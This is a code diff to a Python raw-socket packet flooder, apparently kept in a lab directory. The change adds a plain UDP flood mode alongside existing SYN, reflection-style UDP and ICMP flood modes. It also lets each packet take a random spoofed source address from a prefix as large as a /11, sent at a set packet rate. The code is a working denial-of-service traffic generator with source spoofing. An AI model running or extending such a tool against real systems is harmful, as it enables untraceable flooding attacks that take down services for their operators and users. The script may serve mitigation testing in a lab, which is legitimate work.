@@ -9,6 +9,8 @@ echo floods from many spoofed sources.
       [--ttl T] [--win W] [--payload B] [--linux-options]
   python3 lab/rawflood.py reflect DST --sport S --count N --pps R --spoof CIDR
       [--size A-B] [--ttl T] [--dport P]
+  python3 lab/rawflood.py udp DST --count N --pps R --spoof CIDR [--size A-B]
+      [--ttl T] [--dport P]
   python3 lab/rawflood.py icmp DST --count N --pps R --spoof CIDR [--size A-B]
       [--ttl T] [--same-id]
 
@@ -18,6 +20,7 @@ window-scale options as Linux sends them, and B bytes of payload.
 reflect: UDP datagrams from source port S (53 DNS, 123 NTP, 161 SNMP, 1900
 SSDP, 11211 memcached, ...) of A..B bytes, to random destination ports (or
 port P), as the replies that reflectors send to a spoofed victim.
+udp: a plain UDP flood: the same from random source ports (a flow each).
 icmp: ICMP echo requests of A..B bytes of data, each from a random address
 of --spoof with a random id (a new flow each), or one id for all
 (--same-id: one flow per source address).
@@ -71,7 +74,7 @@ def syn(a, rng, src, dst):
 def reflect(a, rng, src, dst):
     n = rng.randint(*a.size)
     body = bytes(rng.getrandbits(8) for _ in range(n))
-    seg = struct.pack("!HHHH", a.sport, a.dport or rng.randint(1024, 65535), 8 + n, 0) + body
+    seg = struct.pack("!HHHH", a.sport or rng.randint(1024, 65535), a.dport or rng.randint(1024, 65535), 8 + n, 0) + body
     s = l4sum(src, dst, 17, seg) or 0xFFFF
     seg = seg[:6] + struct.pack("!H", s) + seg[8:]
     return ip4(src, dst, 17, seg, a.ttl, rng.getrandbits(16))
@@ -95,11 +98,12 @@ def main():
     ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                  epilog=__doc__.split("\n\n", 1)[1],
                                  formatter_class=argparse.RawDescriptionHelpFormatter)
-    ap.add_argument("mode", choices=["syn", "reflect", "icmp"])
+    ap.add_argument("mode", choices=["syn", "reflect", "udp", "icmp"])
     ap.add_argument("dst")
     ap.add_argument("--count", type=int, required=True)
     ap.add_argument("--pps", type=int, required=True)
-    ap.add_argument("--spoof", required=True, help="source prefix (one address: a /32)")
+    ap.add_argument("--spoof", required=True,
+                    help="source prefix, every packet from a random address of it (one address: a /32)")
     ap.add_argument("--port", type=int, default=80)
     ap.add_argument("--sport", type=int, default=53)
     ap.add_argument("--dport", type=int, default=0, help="reflect: 0 for random")
@@ -114,13 +118,19 @@ def main():
     rng = random.Random(a.seed)
     dst = ipaddress.IPv4Address(a.dst)
     net = ipaddress.IPv4Network(a.spoof, strict=False)
-    hosts = [net.network_address] if net.num_addresses == 1 else list(net.hosts())
+    # a random host of the prefix (not its network or broadcast address),
+    # drawn without listing them: a /11 has two million
+    first, n = int(net.network_address), net.num_addresses
+    if n > 2:
+        first, n = first + 1, n - 2
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     a.icmp_id = rng.getrandbits(16)
-    make = {"syn": syn, "reflect": reflect, "icmp": icmp}[a.mode]
+    if a.mode == "udp":
+        a.sport = 0  # random per packet
+    make = {"syn": syn, "reflect": reflect, "udp": reflect, "icmp": icmp}[a.mode]
     t0 = time.monotonic()
     for i in range(a.count):
-        pkt = make(a, rng, rng.choice(hosts), dst)
+        pkt = make(a, rng, ipaddress.IPv4Address(first + rng.randrange(n)), dst)
         try:
             s.sendto(pkt, (a.dst, 0))
         except OSError as e:  # a full socket buffer: wait, go on
